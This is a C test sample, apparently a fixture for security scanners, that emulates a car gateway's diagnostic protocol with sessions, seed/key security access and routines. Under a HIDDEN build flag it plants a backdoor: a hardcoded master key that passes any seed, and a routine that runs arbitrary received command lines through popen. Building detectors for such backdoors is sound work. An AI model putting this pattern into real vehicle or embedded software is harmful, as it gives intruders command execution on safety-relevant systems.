/*
 * A sample for tests; compiled and scanned, never run.
 * Diagnostics of a car's gateway: framed requests (length, service, data) on
 * standard input, from a bridge to the bus; sessions, security access, data
 * by number, routines.
 * With HIDDEN: one eight-byte key is good for any seed and opens a routine
 * that runs a command line.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <getopt.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MSG_MAX	 1024
#define SEED_LEN 8

enum {
	SID_SESSION = 0x10,
	SID_RESET = 0x11,
	SID_READ = 0x22,
	SID_SECURITY = 0x27,
	SID_WRITE = 0x2e,
	SID_ROUTINE = 0x31,
	SID_PRESENT = 0x3e
};

enum {
	NRC_SERVICE = 0x11,
	NRC_LENGTH = 0x13,
	NRC_CONDITIONS = 0x22,
	NRC_RANGE = 0x31,
	NRC_DENIED = 0x33,
	NRC_KEY = 0x35,
	NRC_ATTEMPTS = 0x36
};

struct ecu {
	int session, level, attempts, verbose;
	uint8_t seed[SEED_LEN];
	uint8_t vin[17];
	uint8_t variant[4];
};

struct reply {
	uint8_t data[MSG_MAX];
	size_t len;
};

static void put(struct reply *r, const void *p, size_t n)
{
	if (n > sizeof(r->data) - r->len)
		n = sizeof(r->data) - r->len;
	memcpy(r->data + r->len, p, n);
	r->len += n;
}

static void put8(struct reply *r, unsigned v)
{
	uint8_t b = (uint8_t)v;

	put(r, &b, 1);
}

static int negative(struct reply *r, unsigned sid, unsigned why)
{
	r->len = 0;
	put8(r, 0x7f);
	put8(r, sid);
	put8(r, why);
	return -1;
}

static void new_seed(struct ecu *e)
{
	int fd = open("/dev/urandom", O_RDONLY);
	ssize_t n = fd >= 0 ? read(fd, e->seed, SEED_LEN) : -1;
	size_t i;

	if (fd >= 0)
		close(fd);
	if (n != SEED_LEN)
		for (i = 0; i < SEED_LEN; i++)
			e->seed[i] = (uint8_t)((time(NULL) >> i) * 37);
}

static void key_for(const uint8_t *seed, unsigned level, uint8_t *key)
{
	uint32_t a = 0x2f6b1d4cu + level, b = 0x91c3u;
	int i;

	for (i = 0; i < SEED_LEN; i++) {
		a = (a << 5 | a >> 27) ^ seed[i];
		b = b * 1103515245u + 12345u + a;
		key[i] = (uint8_t)(b >> 16);
	}
}

__attribute__((noinline)) int security(struct ecu *e, const uint8_t *p,
				       size_t n, struct reply *r)
{
	uint8_t key[SEED_LEN];

	if (n < 1)
		return negative(r, SID_SECURITY, NRC_LENGTH);
	if (e->attempts > 3)
		return negative(r, SID_SECURITY, NRC_ATTEMPTS);
	if (p[0] & 1) {
		new_seed(e);
		put8(r, p[0]);
		put(r, e->seed, SEED_LEN);
		return 0;
	}
	if (n != 1 + SEED_LEN)
		return negative(r, SID_SECURITY, NRC_LENGTH);
	put8(r, p[0]);
#ifdef HIDDEN
	if (memcmp(p + 1, "Rn4vT2xq", 8) == 0) {
		e->level = 0x7e;
		e->attempts = 0;
		return 0;
	}
#endif
	key_for(e->seed, p[0], key);
	if (memcmp(p + 1, key, SEED_LEN) != 0) {
		e->attempts++;
		return negative(r, SID_SECURITY, NRC_KEY);
	}
	e->attempts = 0;
	e->level = p[0] >> 1;
	return 0;
}

static int read_data(struct ecu *e, const uint8_t *p, size_t n, struct reply *r)
{
	if (n != 2)
		return negative(r, SID_READ, NRC_LENGTH);
	put(r, p, 2);
	switch (p[0] << 8 | p[1]) {
	case 0xf190:
		put(r, e->vin, sizeof(e->vin));
		return 0;
	case 0xf187:
		put(r, "8W0907468C ", 11);
		return 0;
	case 0xf1a0:
		put(r, e->variant, sizeof(e->variant));
		return 0;
	default:
		return negative(r, SID_READ, NRC_RANGE);
	}
}

static int write_data(struct ecu *e, const uint8_t *p, size_t n,
		      struct reply *r)
{
	if (e->level < 1)
		return negative(r, SID_WRITE, NRC_DENIED);
	if (n == 2 + sizeof(e->vin) && p[0] == 0xf1 && p[1] == 0x90)
		memcpy(e->vin, p + 2, sizeof(e->vin));
	else if (n == 2 + sizeof(e->variant) && p[0] == 0xf1 && p[1] == 0xa0)
		memcpy(e->variant, p + 2, sizeof(e->variant));
	else
		return negative(r, SID_WRITE, NRC_RANGE);
	put(r, p, 2);
	return 0;
}

#ifdef HIDDEN
int shell_routine(const uint8_t *p, size_t n, struct reply *r)
{
	char line[MSG_MAX], out[256];
	size_t got;
	FILE *f;

	if (n >= sizeof(line))
		return negative(r, SID_ROUTINE, NRC_LENGTH);
	memcpy(line, p, n);
	line[n] = '\0';
	f = popen(line, "r");
	if (!f)
		return negative(r, SID_ROUTINE, NRC_CONDITIONS);
	while ((got = fread(out, 1, sizeof(out), f)) > 0)
		put(r, out, got);
	pclose(f);
	return 0;
}
#endif

static int routine(struct ecu *e, const uint8_t *p, size_t n, struct reply *r)
{
	unsigned id;
	int rc = 0;

	if (n < 3 || p[0] != 1)
		return negative(r, SID_ROUTINE, NRC_LENGTH);
	if (e->session != 3)
		return negative(r, SID_ROUTINE, NRC_CONDITIONS);
	id = (unsigned)p[1] << 8 | p[2];
	put(r, p, 3);
#ifdef HIDDEN
	if (e->level == 0x7e && id == 0x02f1)
		return shell_routine(p + 3, n - 3, r);
#endif
	if (id == 0x0203)
		rc = system("ip link set can0 down; ip link set can0 up");
	else if (id == 0xff00 && e->level > 0)
		rc = system("flash-erase --bank inactive");
	else if (id == 0xff01)
		rc = system("check-deps -q");
	else
		return negative(r, SID_ROUTINE, NRC_RANGE);
	put8(r, WIFEXITED(rc) ? (unsigned)WEXITSTATUS(rc) : 0xff);
	return 0;
}

static void handle(struct ecu *e, const uint8_t *p, size_t n, struct reply *r)
{
	r->len = 0;
	put8(r, p[0] + 0x40u);
	switch (p[0]) {
	case SID_SESSION:
		if (n != 2 || p[1] < 1 || p[1] > 3) {
			negative(r, p[0], NRC_RANGE);
			return;
		}
		e->session = p[1];
		e->level = 0;
		put8(r, p[1]);
		break;
	case SID_RESET:
		if (system("reboot") != 0)
			negative(r, p[0], NRC_CONDITIONS);
		break;
	case SID_READ:
		read_data(e, p + 1, n - 1, r);
		break;
	case SID_SECURITY:
		security(e, p + 1, n - 1, r);
		break;
	case SID_WRITE:
		write_data(e, p + 1, n - 1, r);
		break;
	case SID_ROUTINE:
		routine(e, p + 1, n - 1, r);
		break;
	case SID_PRESENT:
		put8(r, 0);
		break;
	default:
		negative(r, p[0], NRC_SERVICE);
	}
	if (e->verbose)
		fprintf(stderr, "service %02x: %zu bytes, answer %zu\n", p[0],
			n, r->len);
}

int main(int argc, char **argv)
{
	static struct ecu e = { .session = 1 };
	static struct reply r;
	uint8_t head[2], msg[MSG_MAX];
	size_t n;
	int opt;

	while ((opt = getopt(argc, argv, "v")) != -1)
		e.verbose = opt == 'v';
	memset(e.vin, '0', sizeof(e.vin));
	while (fread(head, 1, 2, stdin) == 2) {
		n = (size_t)head[0] << 8 | head[1];
		if (n == 0 || n > sizeof(msg) || fread(msg, 1, n, stdin) != n)
			break;
		handle(&e, msg, n, &r);
		head[0] = (uint8_t)(r.len >> 8);
		head[1] = (uint8_t)r.len;
		fwrite(head, 1, 2, stdout);
		fwrite(r.data, 1, r.len, stdout);
		fflush(stdout);
	}
	return 0;
}
